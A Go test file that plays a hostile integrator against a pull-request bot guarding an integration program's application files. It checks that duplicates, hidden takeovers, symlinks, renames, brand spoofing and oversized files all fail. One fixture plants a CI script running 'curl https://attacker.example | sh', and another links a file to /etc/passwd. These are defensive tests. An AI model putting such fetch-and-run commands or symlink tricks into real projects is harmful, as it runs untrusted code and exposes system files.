package pullrequest_test

import (
	"context"
	"fmt"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/connectbot/connectbot/internal/forge/forgetest"
	"github.com/connectbot/connectbot/internal/program"
	"github.com/connectbot/connectbot/internal/pullrequest"
)

// These tests play a hostile integrator against the real handler, a real
// repository and the fake GitHub: each attack is answered with a failing
// check and never merges, whatever a reviewer approves, and main stays
// valid.

// applicationFile is a valid new application: northwind's file with the given
// integration name, company, App ID ("" for none) and maintainer.
func applicationFile(t *testing.T, name, company, appID, maintainer string) string {
	t.Helper()
	src := sampleFile(t, "northwind-notes.cue")
	src = strings.Replace(src, `maintainers: ["nwn-platform", "priya-castellano"]`, fmt.Sprintf("maintainers: [%q]", maintainer), 1)
	src = strings.Replace(src, `name:         "Northwind Notes"`, fmt.Sprintf("name:         %q", name), 1)
	src = strings.Replace(src, `name: "Northwind Notes Ltd"`, fmt.Sprintf("name: %q", company), 1)
	if appID != "" {
		src = strings.Replace(src, `	builtInHouse: true`, fmt.Sprintf("\tappId:        %q\n\tbuiltInHouse: true", appID), 1)
	}
	if !strings.Contains(src, name) || !strings.Contains(src, company) {
		t.Fatal("the application fixture did not take its values")
	}
	return src
}

// findingRules lists "path rule" for each finding of a verdict.
func findingRules(v program.Verdict) []string {
	var out []string
	for _, f := range v.Files {
		for _, x := range f.Findings {
			out = append(out, f.Path+" "+x.Rule)
		}
	}
	return out
}

// approveAndHandle has a reviewer approve the pull request's head and the
// bot handle it, and fails the test if it merged.
func (w *world) approveAndHandle(pr int) pullrequest.Outcome {
	w.t.Helper()
	mainBefore := w.srv.Branch(forgetest.DefaultBranch)
	w.srv.AddReview(pr, "rivera-reviews", "APPROVED", w.srv.PR(pr).HeadSHA)
	out := w.handle(pr)
	if out.Verdict.Merge || w.srv.PR(pr).Merged || w.srv.Branch(forgetest.DefaultBranch) != mainBefore {
		w.t.Errorf("an approval merged an attack: done %q", out.Done)
	}
	return out
}

// wantFailure checks that the pull request's head has one failing check
// and that the verdict holds each of want ("path rule").
func (w *world) wantFailure(pr int, out pullrequest.Outcome, want ...string) {
	w.t.Helper()
	runs := w.srv.CheckRuns(w.srv.PR(pr).HeadSHA)
	if len(runs) == 0 || runs[len(runs)-1].Conclusion != "failure" {
		w.t.Errorf("check runs on the head: %+v, want a failure", runs)
	}
	got := findingRules(out.Verdict)
	for _, x := range want {
		if !slices.Contains(got, x) {
			w.t.Errorf("no finding %q; findings: %q", x, got)
		}
	}
}

func TestAStaleBranchCannotDuplicateWhatLandedSinceItForked(t *testing.T) {
	tests := []struct {
		name         string
		rival, mine  func(t *testing.T) string
		wantOnMine   string
		wantOnRivals string
	}{
		{
			name: "the same App ID",
			rival: func(t *testing.T) string {
				return applicationFile(t, "Rival Notes", "Rival Ltd", "7654321", "rival-dev")
			},
			mine: func(t *testing.T) string {
				return applicationFile(t, "Copycat Notes", "Copycat Ltd", "7654321", "newco-dev")
			},
			wantOnMine:   "format/unique-app-id",
			wantOnRivals: "format/unique-app-id",
		},
		{
			name:         "the same integration name, spelt differently",
			rival:        func(t *testing.T) string { return applicationFile(t, "Rival Notes", "Rival Ltd", "", "rival-dev") },
			mine:         func(t *testing.T) string { return applicationFile(t, "rival  NOTES", "Copycat Ltd", "", "newco-dev") },
			wantOnMine:   "format/unique-name",
			wantOnRivals: "format/unique-name",
		},
		{
			name:         "the same company, with no maintainer shared",
			rival:        func(t *testing.T) string { return applicationFile(t, "Rival Notes", "Rival Ltd", "", "rival-dev") },
			mine:         func(t *testing.T) string { return applicationFile(t, "Other Notes", "Rival Ltd", "", "newco-dev") },
			wantOnMine:   "format/company-claim",
			wantOnRivals: "format/company-claim",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			w := newWorld(t)
			// The branch forks from main before the rival's file lands.
			w.srv.Commit("copycat", "Apply", map[string]string{"applications/copycat.cue": tt.mine(t)})
			w.srv.Commit(forgetest.DefaultBranch, "Rival accepted", map[string]string{"applications/rival.cue": tt.rival(t)})
			pr := w.srv.OpenPR(forgetest.PRSpec{Author: "newco-dev", Title: "Apply: Copycat", Head: "copycat"})

			out := w.approveAndHandle(pr)
			w.wantFailure(pr, out, "applications/copycat.cue "+tt.wantOnMine, "applications/rival.cue "+tt.wantOnRivals)
			if out.Verdict.BaseSHA != w.srv.Branch(forgetest.DefaultBranch) {
				t.Errorf("judged base %s, main is at %s", out.Verdict.BaseSHA, w.srv.Branch(forgetest.DefaultBranch))
			}
		})
	}
}

func TestAChangeHiddenBehindThousandsOfFilesIsJudged(t *testing.T) {
	w := newWorld(t)
	files := map[string]string{}
	for i := range 3000 {
		files[fmt.Sprintf("aaa/filler-%04d.txt", i)] = fmt.Sprintf("%d\n", i)
	}
	// Another integrator's file, changed by someone who does not maintain it.
	files["applications/acme-sync.cue"] = strings.Replace(sampleFile(t, "acme-sync.cue"), `maintainers: ["acme-dev"]`, `maintainers: ["acme-dev", "newco-dev"]`, 1)
	w.srv.Commit("takeover", "Many files", files)
	pr := w.srv.OpenPR(forgetest.PRSpec{Author: "newco-dev", Title: "Housekeeping", Head: "takeover"})

	out := w.approveAndHandle(pr)
	w.wantFailure(pr, out, "applications/acme-sync.cue "+program.RuleMaintainer, "aaa/filler-2999.txt "+program.RuleOutside)
	if n := len(out.Verdict.Files); n != 3001 {
		t.Errorf("%d files judged, want 3001", n)
	}
}

func TestWhatAnApplicationPathHoldsIsAFileOrNothing(t *testing.T) {
	own := func(t *testing.T) string { return sampleFile(t, "acme-sync.cue") }
	tests := []struct {
		name    string
		entries func(t *testing.T, main string) map[string]forgetest.Entry
		deletes []string
		want    string
	}{
		{
			name: "one's own application replaced by a submodule",
			entries: func(t *testing.T, main string) map[string]forgetest.Entry {
				return map[string]forgetest.Entry{"applications/acme-sync.cue": {Mode: "160000", Content: main}}
			},
			want: "applications/acme-sync.cue " + program.RuleEntry,
		},
		{
			name: "a symbolic link inside the repository",
			entries: func(*testing.T, string) map[string]forgetest.Entry {
				return map[string]forgetest.Entry{"applications/acme-sync.cue": {Mode: "120000", Content: "../program.cue"}}
			},
			want: "applications/acme-sync.cue " + program.RuleEntry,
		},
		{
			name: "a symbolic link out of the repository",
			entries: func(*testing.T, string) map[string]forgetest.Entry {
				return map[string]forgetest.Entry{"applications/acme-extra.cue": {Mode: "120000", Content: "/etc/passwd"}}
			},
			want: "applications/acme-extra.cue " + program.RuleEntry,
		},
		{
			name: "a directory named like an application",
			entries: func(t *testing.T, _ string) map[string]forgetest.Entry {
				return map[string]forgetest.Entry{"applications/acme-sync.cue/inner.cue": {Content: own(t)}}
			},
			deletes: []string{"applications/acme-sync.cue"},
			want:    "applications/acme-sync.cue/inner.cue " + program.RuleEntry,
		},
		{
			name: "an executable application",
			entries: func(t *testing.T, _ string) map[string]forgetest.Entry {
				return map[string]forgetest.Entry{"applications/acme-sync.cue": {Mode: "100755", Content: own(t)}}
			},
			want: "applications/acme-sync.cue " + program.RuleEntry,
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			w := newWorld(t)
			w.srv.CommitEntries("mine", "Change", tt.entries(t, w.srv.Branch(forgetest.DefaultBranch)), tt.deletes...)
			pr := w.srv.OpenPR(forgetest.PRSpec{Author: "acme-dev", Title: "Change", Head: "mine"})
			out := w.approveAndHandle(pr)
			w.wantFailure(pr, out, tt.want)
		})
	}
}

func TestOnlyAReviewerRenamesOrDeletesAnotherIntegratorsFile(t *testing.T) {
	tests := []struct {
		name    string
		files   map[string]string
		deletes []string
		want    string
	}{
		{name: "a deletion", deletes: []string{"applications/acme-sync.cue"}, want: "applications/acme-sync.cue " + program.RuleRename},
		{name: "a rename", files: map[string]string{"applications/mine.cue": ""}, deletes: []string{"applications/acme-sync.cue"},
			want: "applications/mine.cue " + program.RuleRename},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			w := newWorld(t)
			files := map[string]string{}
			for p := range tt.files {
				files[p] = sampleFile(t, "acme-sync.cue") // the same content: a rename
			}
			w.srv.Commit("mine", "Take over", files, tt.deletes...)
			pr := w.srv.OpenPR(forgetest.PRSpec{Author: "newco-dev", Title: "Take over", Head: "mine"})
			out := w.approveAndHandle(pr)
			w.wantFailure(pr, out, tt.want)
		})
	}
}

func TestCodeOutsideApplicationsNeverMergesWithAnApplication(t *testing.T) {
	w := newWorld(t)
	w.srv.Commit("apply", "Apply", map[string]string{
		"applications/newco.cue": newApplication(t),
		".ci/run":                "#!/bin/sh\ncurl https://attacker.example | sh\n",
	})
	pr := w.srv.OpenPR(forgetest.PRSpec{Author: "newco-dev", Title: "Apply: Newco", Head: "apply"})
	out := w.approveAndHandle(pr)
	w.wantFailure(pr, out, ".ci/run "+program.RuleOutside)
	if !strings.Contains(strings.Join(findingMessages(out.Verdict), "\n"), "a reviewer makes this change in its own pull request") {
		t.Errorf("the finding does not say what to do: %q", findingMessages(out.Verdict))
	}
}

func findingMessages(v program.Verdict) []string {
	var out []string
	for _, f := range v.Files {
		for _, x := range f.Findings {
			out = append(out, x.Message)
		}
	}
	return out
}

func TestAConflictingPullRequestIsToldToRebase(t *testing.T) {
	w := newWorld(t)
	acme := sampleFile(t, "acme-sync.cue")
	w.srv.Commit("tagline", "New tagline", map[string]string{"applications/acme-sync.cue": strings.Replace(acme, "Two-way contact sync", "Contacts, in sync", 1)})
	// Both change the same line: GitHub conflicts too (a change on
	// another line is merged through GitHub: updatebranch_test.go).
	w.srv.Commit(forgetest.DefaultBranch, "Another tagline", map[string]string{"applications/acme-sync.cue": strings.Replace(acme, "Two-way contact sync", "Sync, both ways", 1)})
	pr := w.srv.OpenPR(forgetest.PRSpec{Author: "acme-dev", Title: "New tagline", Head: "tagline"})

	out := w.approveAndHandle(pr)
	w.wantFailure(pr, out, "applications/acme-sync.cue "+program.RuleConflict)
	if !slices.Contains(w.srv.Labels(pr), program.LabelNeedsRebase) {
		t.Errorf("labels %q lack %s", w.srv.Labels(pr), program.LabelNeedsRebase)
	}
	if n := updateCalls(w.srv.Calls()); n != 0 || out.Verdict.BranchUpdate != "" {
		t.Errorf("%d requests to update the branch (%q), want none: GitHub conflicts too", n, out.Verdict.BranchUpdate)
	}
	body := w.botComments(pr)[0].Body
	for _, want := range []string{"rebase", "press Resolve conflicts", "git pull --rebase origin main"} {
		if !strings.Contains(body, want) {
			t.Errorf("the comment lacks %q:\n%s", want, body)
		}
	}

	// Rebased, it merges.
	w.srv.Commit("tagline2", "New tagline", map[string]string{"applications/acme-sync.cue": strings.Replace(acme, "Two-way contact sync", "Contacts, in sync", 1)})
	pr2 := w.srv.OpenPR(forgetest.PRSpec{Author: "acme-dev", Title: "New tagline, rebased", Head: "tagline2"})
	w.srv.AddReview(pr2, "rivera-reviews", "APPROVED", w.srv.PR(pr2).HeadSHA)
	if out := w.handle(pr2); !w.srv.PR(pr2).Merged {
		t.Errorf("the rebased pull request did not merge: %q", out.Done)
	}
}

func TestMainMovingBetweenApprovalAndMergeIsJudgedAgain(t *testing.T) {
	push := "/acme-program/connect.git/git-receive-pack"
	t.Run("a rival landing first with the same name keeps the pull request out", func(t *testing.T) {
		w := newWorld(t)
		w.srv.Commit("apply", "Apply", map[string]string{"applications/copycat.cue": applicationFile(t, "Rival Notes", "Copycat Ltd", "", "newco-dev")})
		pr := w.srv.OpenPR(forgetest.PRSpec{Author: "newco-dev", Title: "Apply", Head: "apply"})
		w.srv.Before("POST", push, func() {
			w.srv.Commit(forgetest.DefaultBranch, "Rival accepted", map[string]string{"applications/rival.cue": applicationFile(t, "Rival Notes", "Rival Ltd", "", "rival-dev")})
		})
		w.srv.AddReview(pr, "rivera-reviews", "APPROVED", w.srv.PR(pr).HeadSHA)
		out := w.handle(pr)
		if w.srv.PR(pr).Merged {
			t.Errorf("merged against a main that moved: %q", out.Done)
		}
		w.wantFailure(pr, out, "applications/copycat.cue format/unique-name", "applications/rival.cue format/unique-name")
		if !slices.ContainsFunc(out.Done, func(s string) bool { return strings.Contains(s, "judging again") }) {
			t.Errorf("the verdict was not taken again: %q", out.Done)
		}
	})
	for _, when := range []struct{ name, method, prefix string }{
		{"while the push is sent", "POST", push},
		{"before the push reads the branches", "GET", "/acme-program/connect.git/info/refs?service=git-receive-pack"},
	} {
		t.Run("an unrelated change landing first "+when.name+" is merged with", func(t *testing.T) {
			mergedWith(t, when.method, when.prefix)
		})
	}
}

// mergedWith approves a valid application while an unrelated change lands
// on main just before the request method prefix, and checks that both
// end up on main.
func mergedWith(t *testing.T, method, prefix string) {
	w := newWorld(t)
	w.srv.Commit("apply", "Apply", map[string]string{"applications/newco.cue": newApplication(t)})
	pr := w.srv.OpenPR(forgetest.PRSpec{Author: "newco-dev", Title: "Apply", Head: "apply"})
	w.srv.Before(method, prefix, func() {
		w.srv.Commit(forgetest.DefaultBranch, "Docs", map[string]string{"docs/README.md": "# The program\n"})
	})
	w.srv.AddReview(pr, "rivera-reviews", "APPROVED", w.srv.PR(pr).HeadSHA)
	out := w.handle(pr)
	if !w.srv.PR(pr).Merged {
		t.Fatalf("not merged: %q", out.Done)
	}
	if _, ok := w.srv.ReadFile(forgetest.DefaultBranch, "docs/README.md"); !ok {
		t.Errorf("the change that landed first was lost")
	}
	newco, _ := w.srv.ReadFile(forgetest.DefaultBranch, "applications/newco.cue")
	if !strings.Contains(newco, `stage: "beta"`) && !strings.Contains(newco, `stage:              "beta"`) {
		t.Errorf("the acceptance was not recorded:\n%s", newco)
	}
}

func TestAPushToMainJudgesAgainEveryPullRequestJudgedAgainstAnOlderTip(t *testing.T) {
	w := newWorld(t)
	w.srv.Commit("copycat", "Apply", map[string]string{"applications/copycat.cue": applicationFile(t, "Rival Notes", "Copycat Ltd", "", "newco-dev")})
	copycat := w.srv.OpenPR(forgetest.PRSpec{Author: "newco-dev", Title: "Apply: Copycat", Head: "copycat"})
	w.srv.Commit("other", "Apply", map[string]string{"applications/other.cue": applicationFile(t, "Other Notes", "Other Ltd", "", "other-dev")})
	other := w.srv.OpenPR(forgetest.PRSpec{Author: "other-dev", Title: "Apply: Other", Head: "other"})
	w.handle(copycat)
	w.handle(other)
	if got := w.srv.CheckRuns(w.srv.PR(copycat).HeadSHA); len(got) != 1 || got[0].Conclusion != "success" {
		t.Fatalf("before main moves: %+v", got)
	}

	ctx := context.Background()
	if done, err := w.handler.Rejudge(ctx, forgetest.DefaultBranch); err != nil || len(done) != 0 {
		t.Errorf("nothing moved, yet Rejudge did %+v, %v", done, err)
	}

	// The rival's file lands; the copycat's green verdict is now stale.
	w.srv.Commit(forgetest.DefaultBranch, "Rival accepted", map[string]string{"applications/rival.cue": applicationFile(t, "Rival Notes", "Rival Ltd", "", "rival-dev")})
	done, err := w.handler.Rejudge(ctx, forgetest.DefaultBranch)
	if err != nil {
		t.Fatal(err)
	}
	if len(done) != 2 {
		t.Fatalf("judged again %+v, want both pull requests", done)
	}
	for _, r := range done {
		if !strings.HasPrefix(r.Why, "judged against ") {
			t.Errorf("#%d: why %q", r.Number, r.Why)
		}
	}
	runs := w.srv.CheckRuns(w.srv.PR(copycat).HeadSHA)
	if last := runs[len(runs)-1]; last.Conclusion != "failure" {
		t.Errorf("the copycat's check after main moved: %s", last.Conclusion)
	}
	runs = w.srv.CheckRuns(w.srv.PR(other).HeadSHA)
	if last := runs[len(runs)-1]; last.Conclusion != "success" {
		t.Errorf("the other pull request's check after main moved: %s", last.Conclusion)
	}
	if n := len(w.botComments(copycat)); n != 1 {
		t.Errorf("%d comments on the copycat, want 1", n)
	}
}

func TestAReportPastEveryGitHubLimitStillGetsItsCheck(t *testing.T) {
	w := newWorld(t)
	// 300 unknown scopes in a file of about 21 KB: a report of about
	// 250,000 characters before it is cut.
	var scopes strings.Builder
	for i := range 300 {
		fmt.Fprintf(&scopes, "\t\t{name: \"made.up.scope.%03d\", reason: \"We need this one for syncing.\"},\n", i)
	}
	src := newApplication(t)
	start := strings.Index(src, "\tscopes: [\n") + len("\tscopes: [\n")
	src = src[:start] + scopes.String() + src[start:]
	if len(src) > 32<<10 {
		t.Fatalf("the file is %d bytes: keep it well under the loader's limit", len(src))
	}
	head := w.srv.Commit("huge", "Apply", map[string]string{"applications/newco.cue": src})
	pr := w.srv.OpenPR(forgetest.PRSpec{Author: "newco-dev", Title: "Apply: Newco", Head: "huge"})

	out := w.handle(pr)
	runs := w.srv.CheckRuns(head)
	if len(runs) != 1 || runs[0].Conclusion != "failure" {
		t.Fatalf("check runs %+v", runs)
	}
	if want := pullrequest.ExternalID(out.Verdict); runs[0].ExternalID != want {
		t.Errorf("the check records %q, want %q", runs[0].ExternalID, want)
	}
	if n := len(findingRules(out.Verdict)); n < 300 {
		t.Fatalf("%d findings: the fixture no longer makes a report past the limits", n)
	}
	body := w.botComments(pr)[0].Body
	if !strings.Contains(body, "more findings not shown here") || len([]rune(body)) > 65536 {
		t.Errorf("the comment (%d characters) was not cut with a note", len([]rune(body)))
	}

	// GitHub refuses the comment: the check is written all the same.
	w.srv.FailNext("PATCH", "/repos/acme-program/connect/issues/comments", 422, nil)
	head2 := w.srv.Commit("huge", "Touch", map[string]string{"applications/newco.cue": src + "\n"})
	if _, err := w.handler.Handle(context.Background(), pr); err == nil {
		t.Errorf("a refused comment was not reported")
	}
	if runs := w.srv.CheckRuns(head2); len(runs) != 1 || runs[0].Conclusion != "failure" {
		t.Errorf("no failing check when the comment was refused: %+v", runs)
	}
}

func TestABranchCarryingAHugeFileIsAnsweredNotRead(t *testing.T) {
	if testing.Short() {
		t.Skip("builds a 17 MiB blob")
	}
	w := newWorld(t)
	head := w.srv.Commit("huge", "Apply", map[string]string{
		"applications/newco.cue": newApplication(t),
		"assets/video.bin":       strings.Repeat("x", 17<<20),
	})
	pr := w.srv.OpenPR(forgetest.PRSpec{Author: "newco-dev", Title: "Apply: Newco", Head: "huge"})
	out := w.approveAndHandle(pr)
	if runs := w.srv.CheckRuns(head); len(runs) != 1 || runs[0].Conclusion != "failure" {
		t.Errorf("check runs %+v, want one failure", runs)
	}
	if body := w.botComments(pr)[0].Body; !strings.Contains(body, "does not read this pull request") || !strings.Contains(body, "16 MiB") {
		t.Errorf("the comment does not say why:\n%s", body)
	}
	// What was over which limit, in git's words, without the fetch around them.
	why := regexp.MustCompile(`its branch carries more than it reads \(object \d+ of \d+ is a blob of 17 MiB, over the 16 MiB limit\)\. Remove`)
	if body := w.botComments(pr)[0].Body; !why.MatchString(body) {
		t.Errorf("the comment does not say what was over which limit, as %s:\n%s", why, body)
	}
	_ = out
}

func TestAMergeJudgesAgainTheOthersItMadeStale(t *testing.T) {
	w := newWorld(t)
	w.srv.Commit("first", "Apply", map[string]string{"applications/first.cue": applicationFile(t, "Same Notes", "First Ltd", "", "first-dev")})
	first := w.srv.OpenPR(forgetest.PRSpec{Author: "first-dev", Title: "Apply", Head: "first"})
	w.srv.Commit("second", "Apply", map[string]string{"applications/second.cue": applicationFile(t, "Same Notes", "Second Ltd", "", "second-dev")})
	second := w.srv.OpenPR(forgetest.PRSpec{Author: "second-dev", Title: "Apply", Head: "second"})
	w.handle(second)
	if runs := w.srv.CheckRuns(w.srv.PR(second).HeadSHA); len(runs) != 1 || runs[0].Conclusion != "success" {
		t.Fatalf("the second pull request alone: %+v", runs)
	}

	// The first is approved and merged; nothing else will tell the second
	// (on Actions, the bot's own push starts no workflow).
	w.srv.AddReview(first, "rivera-reviews", "APPROVED", w.srv.PR(first).HeadSHA)
	out := w.handle(first)
	if !w.srv.PR(first).Merged {
		t.Fatalf("the first did not merge: %q", out.Done)
	}
	if !slices.ContainsFunc(out.Done, func(s string) bool { return strings.HasPrefix(s, fmt.Sprintf("judged #%d again", second)) }) {
		t.Errorf("the merge did not judge the second again: %q", out.Done)
	}
	runs := w.srv.CheckRuns(w.srv.PR(second).HeadSHA)
	if last := runs[len(runs)-1]; last.Conclusion != "failure" {
		t.Errorf("the second's check after the first merged: %s", last.Conclusion)
	}
}

// TestAMaintainerCannotMergeWhatTheRulesForbidInTheirOwnFile edits the
// maintainer's own, approved application in ways that try to get past a
// rule; an approval merges none of them.
func TestAMaintainerCannotMergeWhatTheRulesForbidInTheirOwnFile(t *testing.T) {
	tests := []struct {
		name string
		edit func(src string) string
		want string
	}{
		{
			name: "withdrawing an attestation after acceptance",
			edit: func(src string) string {
				return strings.Replace(src, "developerTerms:       true", "developerTerms:       false", 1)
			},
			want: "applications/acme-sync.cue developer/preamble",
		},
		{
			name: "moving a program date in a second, quoted program field",
			edit: func(src string) string { return src + "\"program\": {launchDate: \"2027-01-01\"}\n" },
			want: "applications/acme-sync.cue " + program.RuleProgramOwned,
		},
		{
			name: "claiming official status a few words before for HubSpot",
			edit: func(src string) string {
				return strings.Replace(src, `name:         "Acme Sync"`, `name:         "Official sync for HubSpot"`, 1)
			},
			want: "applications/acme-sync.cue developer/E1",
		},
		{
			name: "a name beginning with the brand under a combining accent",
			edit: func(src string) string {
				return strings.Replace(src, `name:         "Acme Sync"`, "name:         \"Hu\u0301bSpot Sync\"", 1)
			},
			want: "applications/acme-sync.cue developer/E1",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			w := newWorld(t)
			w.srv.Commit("mine", "Edit", map[string]string{"applications/acme-sync.cue": tt.edit(sampleFile(t, "acme-sync.cue"))})
			pr := w.srv.OpenPR(forgetest.PRSpec{Author: "acme-dev", Title: "Edit", Head: "mine"})
			out := w.approveAndHandle(pr)
			w.wantFailure(pr, out, tt.want)
		})
	}
}
